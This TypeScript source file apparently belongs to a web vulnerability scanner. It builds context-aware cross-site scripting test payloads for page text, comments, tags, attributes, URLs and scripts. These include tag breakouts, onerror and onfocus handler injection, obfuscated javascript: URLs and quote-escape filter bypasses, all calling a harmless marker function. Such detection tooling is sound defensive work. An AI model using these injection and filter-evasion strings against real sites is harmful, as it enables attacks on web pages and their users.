import type { HtmlPlace } from '../../../read/html/htmlPlaces.ts'
import { findScriptPlaces, type ScriptPlace } from '../../../read/programs/syntax/scriptPlaces.ts'

export type XssPayload = {
  readonly context: string
  readonly write: (word: string) => string
  /** `itself`: on load. `nothing`: an attribute without an event. */
  readonly runs: 'itself' | 'click' | 'event' | 'nothing'
  /** Character references are decoded before execution, as in attributes. */
  readonly isDecoded?: true
  readonly isSeenInBrowser?: true
  readonly parts?: Readonly<Record<string, XssPayload>>
}

export const ownNumber = '1'

/** Returns a call of the browser's recorder that has no effect elsewhere. */
export function callMarker(word: string, number = ownNumber): string {
  return `self.${word}?.(${number})`
}

/** An image with an empty `src` fails without a request. */
function callingElement(word: string): string {
  return `<img src onerror=${callMarker(word)}>`
}

export function xssPayloadsFor(place: HtmlPlace, word: string): readonly XssPayload[] {
  switch (place.kind) {
    case 'text':
      return [markup(place.inside === null ? '' : `</${place.inside}>`, contextOf(place))]
    case 'comment':
      return [markup('-->', contextOf(place))]
    case 'tag':
      return [
        {
          write: (own) => `b autofocus onfocus=${callMarker(own)} tabindex=1 `,
          context: contextOf(place),
          runs: 'event',
        },
        markup('>', contextOf(place)),
      ]
    case 'attribute':
      return attributePayloads(place, word)
    case 'script':
      return [
        markup('</script>', contextOf(place)),
        ...findScriptPlaces(place.text, word).flatMap((found) => scriptPayloads(found)),
      ]
  }
}

export function contextOf(place: HtmlPlace): string {
  switch (place.kind) {
    case 'text':
      return place.inside === null ? 'text of the page' : `text of a ${place.inside} element`
    case 'comment':
      return 'comment'
    case 'tag':
      return 'name of an element or attribute'
    case 'attribute': {
      const { name, quote } = place
      const quoted = quote === '' ? 'without quotes' : quote === '"' ? 'in double quotes' : 'in single quotes'
      return `attribute ${name} ${quoted}`
    }
    case 'script':
      return 'script'
  }
}

export function endOf(place: HtmlPlace): string {
  switch (place.kind) {
    case 'text':
      return place.inside === null ? '' : `</${place.inside}>`
    case 'comment':
      return '-->'
    case 'tag':
      return '>'
    case 'attribute':
      return `${place.quote}>`
    case 'script':
      return '</script>'
  }
}

function markup(end: string, context: string): XssPayload {
  return { write: (word) => `${end}${callingElement(word)}`, context, runs: 'itself' }
}

const openedUrls = new Map([
  ['href', ['a', 'area']],
  ['xlink:href', ['a']],
  ['src', ['iframe', 'frame']],
  ['action', ['form']],
  ['formaction', ['button', 'input']],
])

export function opensUrl(element: string, attribute: string): boolean {
  return openedUrls.get(attribute)?.includes(element) ?? false
}

function attributePayloads(
  place: Extract<HtmlPlace, { kind: 'attribute' }>,
  word: string,
): readonly XssPayload[] {
  const { element, name, quote, value } = place
  const context = contextOf(place)
  const payloads: XssPayload[] = []
  if (name.startsWith('on')) {
    const places = findScriptPlaces(value, word)
    const found = places.flatMap((one) => scriptPayloads(one, `the event handler ${name}`))
    payloads.push(...found.map((one): XssPayload => ({ ...one, runs: 'event', isDecoded: true })))
  }
  if (opensUrl(element, name) && startsWith(value, word)) payloads.push(...urlPayloads(element, name))
  if (/^\s*javascript:/i.test(value)) {
    const places = findScriptPlaces(value.replace(/^\s*javascript:/i, ''), word)
    const found = places.flatMap((one) => scriptPayloads(one, `a javascript: URL in ${name}`))
    payloads.push(...found.map((one): XssPayload => ({ ...one, runs: 'click', isDecoded: true })))
  }
  if (name === 'srcdoc') payloads.push({ ...markup('', 'document of an iframe'), isDecoded: true })
  const write = (own: string) =>
    quote === ''
      ? `x autofocus onfocus=${callMarker(own)} tabindex=1 `
      : `${quote} autofocus onfocus=${quote}${callMarker(own)}${quote} tabindex=${quote}1`
  payloads.push(markup(`${quote}>`, context), { write, context, runs: 'event' })
  return payloads
}

function startsWith(value: string, word: string): boolean {
  return value.trimStart().toLowerCase().startsWith(word)
}

/** Browsers ignore tabs in the scheme and decode character references. */
function urlPayloads(element: string, name: string): readonly XssPayload[] {
  const runs = element === 'iframe' || element === 'frame' ? 'itself' : 'click'
  const context = `URL in the attribute ${name}`
  const schemes: readonly ((call: string) => string)[] = [
    (call) => `javascript:${call}`,
    (call) => `JaVa\tScRiPt:${call}`,
    (call) => `&#106;avascript&colon;${call}`,
    (call) => `javascript:${call}//https://`,
  ]
  return schemes.map(
    (scheme): XssPayload => ({ write: (word) => scheme(callMarker(word)), context, runs, isDecoded: true }),
  )
}

function scriptPayloads({ kind }: ScriptPlace, where = 'a script'): readonly XssPayload[] {
  const of = (context: string, write: (call: string) => string): XssPayload => ({
    context,
    write: (word) => write(callMarker(word)),
    runs: 'itself',
  })
  switch (kind) {
    case "'":
    case '"': {
      const context = `text in ${kind === '"' ? 'double' : 'single'} quotes in ${where}`
      return [
        of(context, (call) => `${kind}-${call}-${kind}`),
        // For filters that escape quotes but not backslashes.
        of(context, (call) => `\\${kind}-${call}//`),
        of(context, (call) => `\\${kind});${call}//`),
        writtenLater(context),
      ]
    }
    case '`': {
      const context = `template literal in ${where}`
      return [of(context, (call) => `\${${call}}`), writtenLater(context)]
    }
    case 'code':
      return [of(`code of ${where}`, (call) => call)]
    case 'comment':
      return [
        of(`comment in ${where}`, (call) => `\n${call}//`),
        of(`comment in ${where}`, (call) => `*/${call}/*`),
      ]
  }
}

/** Escaped markup that a script of the page may write into it. */
function writtenLater(context: string): XssPayload {
  return {
    context,
    write: (word) => `\\x3cimg src onerror=${callMarker(word)}\\x3e`,
    runs: 'itself',
    isSeenInBrowser: true,
  }
}
